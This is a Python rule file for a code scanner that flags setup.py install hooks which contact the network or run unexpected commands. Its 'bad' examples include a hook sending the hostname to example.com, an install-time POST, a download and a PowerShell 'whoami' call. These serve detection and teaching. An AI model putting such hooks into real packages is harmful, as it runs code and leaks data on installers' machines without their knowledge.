"""A setup script does more than setting up: it talks to the network or runs commands when the package is installed.

## Why it matters
`pip install` of a source distribution runs `setup.py`, with the rights of whoever installs: a developer with keys in the home
folder, a build server with those of the release.  Most malicious packages do their work there, in a `cmdclass`.  Assistants
put downloads there since it "always runs".

## How to fix it
Keep `setup.py` declarative, or do without one (`pyproject.toml`).  Bring along what the package needs, or fetch it when the
user asks for it, with a checksum.

## When it is fine
When it only calls compilers and the like, which Vetline doesn't report.

## References
- [Python packaging: is setup.py deprecated?](https://packaging.python.org/en/latest/discussions/setup-py-deprecated/)
- [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
"""

from __future__ import annotations

import ast
from collections.abc import Iterator, Sequence
from typing import Final

from vetline.core.cwe import Cwe
from vetline.core.severity import Confidence, Severity
from vetline.rules.base import CheckContext, Comparison, Example, Match, Note, Rule
from vetline.rules.command_lines import RUNNERS, words_of_command
from vetline.rules.library_calls import is_of

_COMMANDS: Final = frozenset(
    {"install", "develop", "egg_info", "build_py", "build", "sdist", "bdist_egg", "bdist_wheel", "editable_wheel", "Command"}
)
_NETWORK: Final = (
    "requests",
    "httpx",
    "urllib.request",
    "urllib3",
    "aiohttp",
    "socket",
    "http.client",
    "ftplib",
    "smtplib",
    "paramiko",
)
_TOOLS: Final = frozenset(
    """
    ar bazel cargo cc clang clang++ cl cmake cython f2py g++ gcc git go gfortran ld llvm-config make maturin meson msbuild ninja
    node npm nvcc pkg-config protoc pybind11-config rustc sed sphinx-build swig tar yarn xcrun brew sw_vers
    """.split()
)
_SETUP: Final = "setup"


def note(context: CheckContext) -> Iterator[Note]:
    for call in context.calls("setuptools.setup", "distutils.core.setup", "skbuild.setup"):
        yield Note(call, _SETUP)
    for call in context.calls():
        what = _what(call, context)
        if what:
            yield Note(call, what)


def _what(call: ast.Call, context: CheckContext) -> str:
    """Return what a call does that has no place in a setup script; empty if it is none of that."""
    callees = context.callees(call)
    if any(is_of(name, _NETWORK) and name.rpartition(".")[2] in _TALKING for name in callees):
        return "talks to the network"
    if not set(RUNNERS).isdisjoint(callees):
        words = words_of_command(call, context)
        program = words[0].rpartition("/")[2].lower() if words else ""
        if program and program not in _TOOLS and (program.isascii() or program == "\ufffd") and program != "\ufffd":
            return f"runs `{program}`"
    return ""


_TALKING: Final = frozenset(
    """
    get post put request urlopen urlretrieve Request connect create_connection gethostbyname HTTPSConnection
    HTTPConnection send sendall
    """.split()
)


def compare(notes: Sequence[Note]) -> Iterator[Match]:
    if not any(one.facts == _SETUP for one in notes):
        return
    for one in notes:
        if one.facts != _SETUP:
            yield Match(one.node, f"Whoever installs this package {_runs(one.facts)}: keep `setup.py` declarative.")


def _runs(what: str) -> str:
    return what + ", unasked" if what.startswith("talks") else what + " unasked"


RULE = Rule(
    id="VET926",
    name="suspicious-install-hook",
    cwe=Cwe(506),
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    message="Whoever installs this package runs this unasked: keep `setup.py` declarative.",
    bad=(
        Example(
            """\
import os

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("systemctl enable helper")


setup(name="helper", cmdclass={"install": PostInstall})
"""
        ),
        Example(
            """\
import requests
from setuptools import setup

requests.post("https://example.com/installed", json={"name": "helper"})
setup(name="helper", version="1.0")
"""
        ),
        Example(
            """\
from urllib.request import urlretrieve

import setuptools
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        urlretrieve("https://example.com/model.bin", "helper/model.bin")
        super().run()


setuptools.setup(name="helper", cmdclass={"build_py": Build})
"""
        ),
        Example(
            """\
import subprocess
from distutils.core import setup


def prepare():
    subprocess.run(["powershell", "-c", "whoami"])


prepare()
setup(name="helper")
"""
        ),
        Example(
            """\
import socket

from setuptools import setup


def report():
    s = socket.create_connection(("example.com", 443))
    s.sendall(socket.gethostname().encode())


report()
setup(name="helper")
"""
        ),
    ),
    good=(
        """\
from setuptools import setup

setup(name='helper', version='1.0')
""",
        """\
import subprocess

from setuptools import setup

subprocess.run(['make', 'lib'], check=True)
setup(name='helper')
""",
        """\
import subprocess

from setuptools import setup

version = subprocess.check_output(['git', 'describe'], text=True)
setup(name='helper', version=version)
""",
        """\
import requests

requests.get('https://example.com')
""",
        """\
from setuptools import setup

with open('README.md') as file:
    setup(name='helper', long_description=file.read())
""",
    ),
    comparison=Comparison(note, compare),
    why_no_fix="Whether it is needed at all, only its author knows.",
)
